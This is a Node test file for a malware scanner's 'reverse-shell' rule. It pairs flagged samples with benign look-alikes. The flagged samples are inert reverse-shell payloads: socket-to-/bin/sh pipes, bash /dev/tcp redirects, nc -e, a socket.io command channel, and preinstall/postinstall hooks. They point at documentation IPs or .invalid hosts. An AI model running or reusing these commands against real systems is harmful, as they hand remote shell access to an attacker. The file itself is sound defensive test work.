import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { manifest, ofRule, ruleTable, scanFiles } from "../helpers.js";

// Inert replicas: hosts are documentation addresses (RFC 5737) or .invalid names.
ruleTable("reverse-shell", {
  fail: [
    {
      name: "socket piped into a spawned /bin/sh (the classic Node reverse shell)",
      code: "throw 0; const net = require('net'); const cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, '203.0.113.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });",
      atLeast: "critical",
    },
    {
      name: "platform-dependent shell chosen by a ternary",
      code: "var net = require('net'), cp = require('child_process'); var cmd = process.platform.match(/^win/i) ? 'cmd' : '/bin/sh'; var sh = cp.spawn(cmd, []); var s = net.connect(1111, '198.51.100.4', () => { s.pipe(sh.stdin); util.pump(sh.stdout, s); });",
      atLeast: "critical",
    },
    { name: "bash -i redirected to /dev/tcp in exec", code: "require('child_process').exec(\"bash -c 'bash -i >& /dev/tcp/198.51.100.9/8080 0>&1'\");", atLeast: "critical" },
    { name: "nc -e /bin/sh", code: "const { execSync } = require('child_process'); execSync('nc attacker.invalid 4444 -e /bin/sh');", atLeast: "critical" },
    { name: "nc piped into sh in a shell script", shellScript: true, code: "#!/bin/sh\nnohup /bin/sh -c 'nc 203.0.113.5 443 | /bin/sh' >/dev/null 2>&1 &\n", atLeast: "critical" },
    {
      name: "socket.io command channel at install time",
      installTime: true,
      code: "const io = require('socket.io-client'); const { exec } = require('child_process'); const socket = io('http://c2.invalid'); socket.on('exec', (command, cb) => { exec(command, (e, out) => cb(out)); });",
      atLeast: "critical",
    },
  ],
  pass: [
    { name: "a TCP client piping to the terminal", code: "const net = require('net'); const s = net.connect(6379, 'localhost'); s.pipe(process.stdout); require('child_process').spawn('git', ['status']);" },
    { name: "an interactive shell for the user, no network", code: "const { spawn } = require('child_process'); spawn('bash', ['-i'], { stdio: 'inherit' });" },
    { name: "a port check with nc -z", code: "require('child_process').execSync('nc -z localhost 5432'); fetch('http://localhost:5432');" },
    { name: "a CLI that runs a command the user typed, no network", code: "const { exec } = require('child_process'); program.on('command:run', (cmd) => exec(cmd));" },
  ],
});

describe("rule reverse-shell (package.json scripts)", () => {
  it("flags a reverse shell in an install script as critical", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { preinstall: "bash -c 'bash -i >& /dev/tcp/203.0.113.1/23333 0>&1'" } }) });
    assert.equal(ofRule(report.findings, "reverse-shell", "critical").length, 1);
    assert.equal(report.verdict, "malicious");
  });
  it("flags a raw TCP beacon written to /dev/tcp", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { postinstall: "bash -c \"(echo `date` > /dev/tcp/203.0.113.2/443)||(:)\"" } }) });
    assert.equal(report.verdict, "malicious");
  });
  it("does not flag a test script that starts a local server", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { test: "node server.js & sleep 1 && curl -s localhost:3000" } }) });
    assert.deepEqual(ofRule(report.findings, "reverse-shell"), []);
  });
});
